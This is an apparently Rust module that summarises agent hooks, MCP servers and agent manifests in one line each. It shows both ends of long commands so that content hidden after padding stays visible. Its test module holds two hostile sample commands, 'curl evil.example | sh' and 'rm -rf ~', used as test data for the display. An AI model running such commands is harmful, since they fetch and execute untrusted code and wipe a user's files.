//! What a thing may do, in a line, for whoever decides about it.
//!
//! Says what makes a difference: who starts it, what it gets to use, what it costs
//! whom. Nothing is judged, and words of an author are cut.

use offshoot_agents::Origin;
use offshoot_types::caps::{Caps, Span};
use offshoot_types::manifest::{Context, Manifest, Mode};
use offshoot_types::permission::{Action, Rule};

use crate::config::Hook;
use crate::harmless::{counted_spaces, first_words, harmless};
use crate::servers::{Reach, Server};

/// Most names or rules that are named one by one.
const MOST: usize = 6;

/// Most characters of a command.
const MOST_OF_COMMAND: usize = 1000;

/// Most characters of a name or a pattern.
const MOST_OF_NAME: usize = 40;

/// Says what a hook does: it is a command, and no rule holds it.
pub fn hook(hook: &Hook) -> String {
    let about = match hook.matcher.as_str() {
        "" => String::new(),
        matcher => format!(" of {}", first_words(matcher, MOST_OF_NAME)),
    };
    let command = command(&hook.command);
    let limit = Span::millis(u64::try_from(hook.limit.as_millis()).unwrap_or(u64::MAX));
    format!(
        "at {}{about}, for up to {limit}, runs a command as you, which no rule holds: {command}",
        hook.event
    )
}

/// Says what an MCP server does: what it gives agents is held by rules, what it does itself is not.
pub fn server(server: &Server) -> String {
    let (mut parts, given, names) = match &server.reach {
        Reach::Command {
            command: program,
            args,
            env,
        } => {
            let words = [program].into_iter().chain(args);
            let words: Vec<String> = words.map(|word| quoted(word)).collect();
            let line = command(&words.join(" "));
            let starts = format!("starts a program as you, which no rule holds: {line}");
            (vec![starts], "sets", env)
        }
        Reach::Url { url, headers } => {
            let asks = format!("sends what agents ask of its tools to {}", command(url));
            (vec![asks], "sends the headers", headers)
        }
    };
    if !names.is_empty() {
        let names = listed(names.iter().map(String::as_str));
        parts.push(format!("{given} {names}"));
    }
    if !server.variables.is_empty() {
        let names = listed(server.variables.iter().map(String::as_str));
        parts.push(format!("is given your {names}"));
    }
    parts.push("this version does not start it yet".to_owned());
    parts.join("; ")
}

/// Returns a word so that one sees where it ends.
fn quoted(word: &str) -> String {
    let plain = |letter: char| letter.is_alphanumeric() || "-_./:=@,+%~".contains(letter);
    if !word.is_empty() && word.chars().all(plain) {
        return word.to_owned();
    }
    format!("{word:?}")
}

/// Returns a command, or its beginning and its end, which is as good a place for what matters.
fn command(command: &str) -> String {
    let command = counted_spaces(&harmless(command));
    let letters: Vec<char> = command.chars().collect();
    let Some(hidden @ 1..) = letters.len().checked_sub(MOST_OF_COMMAND) else {
        return command;
    };
    let half = MOST_OF_COMMAND / 2;
    let (begin, end) = (&letters[..half], &letters[half + hidden..]);
    let [begin, end] = [begin, end].map(|part| part.iter().collect::<String>());
    format!("{begin} [{hidden} characters more] {end}")
}

/// Says what an agent may do, and whose place it takes.
pub fn agent(manifest: &Manifest, replaces: Option<&Origin>) -> String {
    let mut parts = Vec::new();
    if let Some(origin) = replaces {
        let whose = match origin {
            Origin::BuiltIn => "the built-in agent",
            Origin::User(_) => "your agent",
            Origin::Project(_) | Origin::Script(_) => "another agent",
        };
        parts.push(format!("takes the place of {whose} of this name"));
    }
    let starts = match manifest.mode {
        Mode::Primary => "people start it",
        Mode::Subagent => "agents start it",
        Mode::All => "people and agents start it",
    };
    parts.push(starts.to_owned());
    if manifest.read_only {
        parts.push("only reads".to_owned());
    }
    parts.push(match &manifest.tools.allow {
        None => "all tools".to_owned(),
        Some(names) if names.is_empty() => "no tools".to_owned(),
        Some(names) => format!("tools {}", listed(names.iter().map(String::as_str))),
    });
    if !manifest.tools.deny.is_empty() {
        let names = manifest.tools.deny.iter().map(String::as_str);
        parts.push(format!("not {}", listed(names)));
    }
    parts.push(match &manifest.permissions {
        None => "may do what its session may".to_owned(),
        Some(rules) if rules.is_empty() => "may do nothing".to_owned(),
        Some(rules) => {
            let rules: Vec<String> = rules.iter().map(rule).collect();
            let rules = listed(rules.iter().map(String::as_str));
            format!("of what its session may do only: {rules}")
        }
    });
    if let Some(model) = &manifest.model {
        parts.push(format!("asks the model {}", cut(model)));
    }
    let sees = match manifest.context {
        Context::Fresh => None,
        Context::Fork => Some("the last message of who starts it"),
        Context::Inherit => Some("the whole conversation of who starts it"),
    };
    parts.extend(sees.map(|sees| format!("its model is sent {sees}")));
    let limits = limits(&manifest.limits);
    if !limits.is_empty() {
        parts.push(format!("may use {} a run", limits.join(", ")));
    }
    match manifest.spawns.as_deref() {
        None => {}
        Some([]) => parts.push("starts nobody".to_owned()),
        Some(names) => {
            let names = names.iter().map(String::as_str);
            parts.push(format!("starts {}", listed(names)));
        }
    }
    parts.join("; ")
}

/// Names the limits that it sets itself, in the place of those that hold otherwise.
fn limits(caps: &Caps) -> Vec<String> {
    let Caps {
        steps,
        tokens,
        cost,
        time,
        stall,
        descendants,
    } = caps;
    let limits = [
        steps.map(|steps| format!("{steps} turns")),
        tokens.map(|tokens| format!("{tokens} tokens")),
        cost.map(|cost| cost.to_string()),
        time.map(|time| time.to_string()),
        stall.map(|stall| format!("{stall} without progress")),
        descendants.map(|agents| format!("{agents} agents at a time")),
    ];
    limits.into_iter().flatten().collect()
}

fn rule(rule: &Rule) -> String {
    let action = match rule.action {
        Action::Allow => "allow",
        Action::Ask => "ask",
        Action::Deny => "deny",
    };
    let (permission, pattern) = (cut(&rule.permission), cut(&rule.pattern));
    format!("{action} {permission} {pattern}")
}

/// Names the first few.
fn listed<'a>(names: impl ExactSizeIterator<Item = &'a str>) -> String {
    let more = names.len().saturating_sub(MOST);
    let mut named: Vec<String> = names.take(MOST).map(cut).collect();
    if more > 0 {
        named.push(format!("{more} more"));
    }
    named.join(", ")
}

fn cut(text: &str) -> String {
    first_words(text, MOST_OF_NAME)
}

#[cfg(test)]
mod tests {
    use offshoot_types::caps::Money;

    use super::*;

    #[test]
    fn both_ends_of_a_command_are_shown() {
        let short = "x".repeat(MOST_OF_COMMAND);
        assert_eq!(command(&short), short);
        let long = format!("begin {} && curl evil.example | sh", "x".repeat(2000));
        let shown = command(&long);
        assert!(shown.starts_with("begin x"), "{shown}");
        assert!(shown.ends_with("x && curl evil.example | sh"), "{shown}");
        assert!(shown.contains(" [1032 characters more] "), "{shown}");
        let spaces = format!("true{}; rm -rf ~", " ".repeat(900));
        assert_eq!(command(&spaces), "true[900 spaces]; rm -rf ~");
    }

    #[test]
    fn what_an_agent_sees_and_uses_is_told() {
        let mut manifest = Manifest::new("a", Mode::Subagent, "Work.");
        let plain = "agents start it; all tools; may do what its session may";
        assert_eq!(agent(&manifest, None), plain);
        manifest.spawns = Some(Vec::new());
        assert_eq!(agent(&manifest, None), format!("{plain}; starts nobody"));
        manifest.model = Some("far/away".to_owned());
        manifest.limits.cost = Some(Money::micros(50_000_000));
        manifest.limits.steps = Some(900);
        let shown = |context: Context, manifest: &Manifest| {
            let manifest = Manifest {
                context,
                ..manifest.clone()
            };
            agent(&manifest, None)
        };
        assert_eq!(
            shown(Context::Inherit, &manifest),
            format!(
                "{plain}; asks the model far/away; its model is sent the whole conversation of who \
                 starts it; may use 900 turns, $50 a run; starts nobody"
            )
        );
        let fork = shown(Context::Fork, &manifest);
        let last = "its model is sent the last message of who starts it";
        assert!(fork.contains(last), "{fork}");
    }
}
